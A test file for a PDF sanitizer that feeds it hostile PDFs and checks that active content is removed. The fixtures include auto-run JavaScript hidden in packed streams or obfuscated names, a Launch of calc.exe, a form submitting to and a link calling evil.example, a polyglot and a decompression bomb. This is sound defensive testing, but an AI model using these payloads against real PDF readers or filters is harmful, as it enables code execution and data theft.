/** PDFs that would act at a reader, in every way a reader would find them and a search by pattern would not. */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFRawStream } from '@cantoo/pdf-lib';
import { expect, test } from 'vitest';
import { PLAIN_PDF, pdfWith } from '#tests/support/data/pdf-file.ts';
import { cleanFile } from '../file-content.ts';

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const ACTS =
  /\/(JavaScript|JS|Launch|URI|GoTo[RE]?|SubmitForm|ImportData|OpenAction|AA|EmbeddedFiles?|EF|XFA|RichMedia|AcroForm|Names)\b/;

const bytes = (text: string) => Buffer.from(text, 'latin1');

/** Objects packed into a stream, whose dictionary says so in its own way. */
function packed(object: string, dictionary: string, number = 10): string {
  const held = deflateSync(`${number} 0 ${object}`).toString('latin1');
  const first = `${number} 0 `.length;
  return `30 0 obj<</N 1/First ${first}/Filter/FlateDecode/Length ${held.length}${dictionary}>>stream\n${held}\nendstream endobj`;
}

/** Everything the file holds, unpacked and written out. */
async function writtenOut(content: Buffer): Promise<string> {
  const document = await PDFDocument.load(content, { updateMetadata: false });
  return document.context
    .enumerateIndirectObjects()
    .map(([, object]) => (object instanceof PDFRawStream ? object.dict : object).toString())
    .join('\n');
}

const ATTACKS: readonly (readonly [string, string])[] = [
  [
    'a script between two words that look like a stream',
    pdfWith({ catalogue: `/A(stream)/OpenAction${SCRIPT}/B(endstream)` }),
  ],
  [
    'a script in packed objects behind a padded dictionary',
    pdfWith({
      catalogue: '/OpenAction 10 0 R',
      objects: packed(SCRIPT, `/Type/ObjStm/Pad(${' '.repeat(5000)})`),
    }),
  ],
  [
    'a script in packed objects behind a misleading dictionary',
    pdfWith({ catalogue: '/OpenAction 10 0 R', objects: packed(SCRIPT, '/Type/ObjStm/A(1 0 obj)') }),
  ],
  ['a way to another file', pdfWith({ catalogue: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>' })],
  [
    'an address called when the page opens',
    pdfWith({ page: '/AA<</O<</S/URI/URI(http://evil.example)>>>>' }),
  ],
  ['a script in the open, spelt otherwise', pdfWith({ catalogue: '/OpenAction<</S/J#61vaScript/J#53(1)>>' })],
  ['a program to start', pdfWith({ page: '/AA<</O<</S/Launch/F(calc.exe)>>>>' })],
  [
    'a link and a film on the page',
    pdfWith({
      page: '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example)>>>><</Subtype/RichMedia/Rect[0 0 9 9]>>]',
    }),
  ],
  [
    'a form that sends',
    pdfWith({
      catalogue: `/AcroForm<</XFA(x)/Fields[<</FT/Btn/A<</S/SubmitForm/F(http://evil.example)>>>>]>>`,
    }),
  ],
  [
    'a file inside',
    pdfWith({
      catalogue: '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/EF<</F 10 0 R>>>>]>>>>',
      objects: '10 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj',
    }),
  ],
  [
    'a script among the resources of the page',
    pdfWith({ page: `/Resources<</Properties<</P<</X${SCRIPT}>>>>>>` }),
  ],
];

test.each(ATTACKS)('%s is left behind, and the page stays', async (_what, text) => {
  const { content, contentType } = await cleanFile(bytes(text));
  expect(contentType).toBe('application/pdf');
  const document = await PDFDocument.load(content);
  expect(document.getPages().map((page) => page.getSize())).toEqual([{ width: 100, height: 100 }]);
  const written = await writtenOut(content);
  expect(written).not.toMatch(ACTS);
  expect(written).not.toContain('evil');
});

test('what stands before, between and behind the objects is not taken over', async () => {
  const { content } = await cleanFile(
    bytes(`${PLAIN_PDF.replace('\n', '\n%<html><script>alert(1)</script>\n')}<html>PK\x03\x04`),
  );
  for (const foreign of ['<html', 'PK\x03\x04']) expect(content.includes(foreign)).toBe(false);
});

test('the look of a filled field stays, its script does not', async () => {
  const field = `<</Subtype/Widget/FT/Tx/Rect[10 10 50 20]/V(Asha)/AP<</N 10 0 R>>/AA<</K${SCRIPT}>>>>`;
  const { content } = await cleanFile(
    bytes(
      pdfWith({
        page: `/Annots[${field}]`,
        objects:
          '10 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 40 10]/Length 12>>stream\n0 0 40 10 re\nendstream endobj',
      }),
    ),
  );
  const written = await writtenOut(content);
  expect(written).toContain('/Subtype /Stamp');
  expect(written).toContain('/BBox');
  expect(written).not.toMatch(ACTS);
});

test('a layer that is switched off stays off', async () => {
  const { content } = await cleanFile(
    bytes(
      pdfWith({
        catalogue: '/OCProperties<</OCGs[10 0 R]/D<</OFF[10 0 R]>>>>',
        page: '/Resources<</Properties<</L 10 0 R>>>>',
        objects: '10 0 obj<</Type/OCG/Name(Dieline)>>endobj',
      }),
    ),
  );
  const written = await writtenOut(content);
  expect(written.match(/\/Dieline|\(Dieline\)/g)).toHaveLength(1);
  expect(written).toMatch(/\/OFF \[ \d+ 0 R \]/);
});

const refusalOf = (content: Buffer | string) =>
  cleanFile(Buffer.from(content as string, 'latin1')).then(
    () => 'kept',
    (error: { code?: string }) => error.code,
  );

test('a locked PDF is refused with a word on why', async () => {
  const locked = pdfWith({
    objects: '10 0 obj<</Filter/Standard/V 1/R 2/P -4/O(o)/U(u)>>endobj',
    trailer: '/Encrypt 10 0 R',
  });
  expect(await refusalOf(locked)).toBe('pdf_locked');
});

test.each([
  ['only a beginning', '%PDF-1.4\n'],
  ['no objects', '%PDF-1.7\n%%EOF\n'],
  ['no pages', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'],
  ['pages that go round in a ring', PLAIN_PDF.replace('/Kids[3 0 R]', '/Kids[2 0 R]')],
])('%s is not read', async (_what, text) => {
  expect(await refusalOf(text)).toBe('pdf_unreadable');
});

test('a bomb ends its own thread before it fills the memory', async () => {
  const held = deflateSync(Buffer.alloc(512 * 1024 * 1024, 32)).toString('latin1');
  const bomb = pdfWith({
    objects: `30 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${held.length}>>stream\n${held}\nendstream endobj`,
  });
  const before = process.memoryUsage.rss();
  let most = before;
  const watch = setInterval(() => {
    most = Math.max(most, process.memoryUsage.rss());
  }, 5);
  expect(await refusalOf(bomb)).toBe('pdf_unreadable');
  clearInterval(watch);
  expect(most - before).toBeLessThan(200 * 1024 * 1024);
});
